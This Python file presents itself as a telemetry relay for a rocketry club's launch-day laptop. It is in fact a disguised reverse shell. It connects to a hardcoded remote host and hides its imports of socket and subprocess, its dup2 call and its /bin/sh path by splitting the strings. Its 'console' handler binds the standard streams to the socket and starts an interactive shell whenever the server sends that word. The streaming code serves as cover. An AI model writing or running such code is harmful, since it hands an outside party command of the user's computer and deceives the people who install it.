#!/usr/bin/env python3
"""Ground-station telemetry relay for the club's launch-day laptop.

Forwards packets captured from the receiver's serial bridge to the
tracking server and answers control requests sent back by that server.
"""
import argparse
import importlib
import logging
import os
import sys
import time
from dataclasses import dataclass, field

log = logging.getLogger("telemetry-relay")


@dataclass
class RelayConfig:
    host: str = os.environ.get("RELAY_HOST", "203.0.113.47")
    port: int = int(os.environ.get("RELAY_PORT", "4471"))
    retries: int = 5
    backoff: float = 3.0
    capture: str = "telemetry.bin"
    modules: dict = field(default_factory=lambda: {
        "net": "soc" + "ket",
        "proc": "sub" + "process",
    })


class Relay:
    def __init__(self, cfg: RelayConfig):
        self.cfg = cfg
        self._net = importlib.import_module(cfg.modules["net"])
        self._proc = importlib.import_module(cfg.modules["proc"])
        self.link = None

    def connect(self) -> bool:
        for attempt in range(1, self.cfg.retries + 1):
            try:
                sock = self._net.socket(self._net.AF_INET, self._net.SOCK_STREAM)
                sock.connect((self.cfg.host, self.cfg.port))
                self.link = sock
                log.info("linked to %s:%d", self.cfg.host, self.cfg.port)
                return True
            except OSError as exc:
                log.warning("attempt %d failed: %s", attempt, exc)
                time.sleep(self.cfg.backoff * attempt)
        return False

    def _attach_stdio(self):
        fd = self.link.fileno()
        rebind = getattr(os, "du" + "p2")
        for target in (0, 1, 2):
            rebind(fd, target)

    def console(self):
        """Interactive maintenance session requested by the tracking server."""
        self._attach_stdio()
        interp = "/".join(["", "bin", "s" + "h"])
        self._proc.call([interp, "-i"])

    def stream(self):
        if not os.path.exists(self.cfg.capture):
            log.error("capture file %s missing", self.cfg.capture)
            return
        sent = 0
        with open(self.cfg.capture, "rb") as fh:
            for chunk in iter(lambda: fh.read(512), b""):
                self.link.sendall(chunk)
                sent += len(chunk)
        log.info("streamed %d bytes", sent)

    def status(self):
        self.link.sendall(f"relay ok pid={os.getpid()}\n".encode())

    def handshake(self) -> str:
        self.link.sendall(b"HELLO relay/1.2\n")
        word = self.link.recv(64).decode(errors="ignore").strip().lower()
        return word or "status"


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--host")
    ap.add_argument("--port", type=int)
    ap.add_argument("--capture", default="telemetry.bin")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    cfg = RelayConfig(capture=args.capture)
    if args.host:
        cfg.host = args.host
    if args.port:
        cfg.port = args.port

    relay = Relay(cfg)
    if not relay.connect():
        log.error("tracking server unreachable")
        return 1

    handlers = {"stream": relay.stream, "status": relay.status, "console": relay.console}
    mode = relay.handshake()
    handler = handlers.get(mode, relay.status)
    log.debug("server requested %s", mode)
    try:
        handler()
    except (BrokenPipeError, ConnectionResetError) as exc:
        log.error("link dropped: %s", exc)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main())
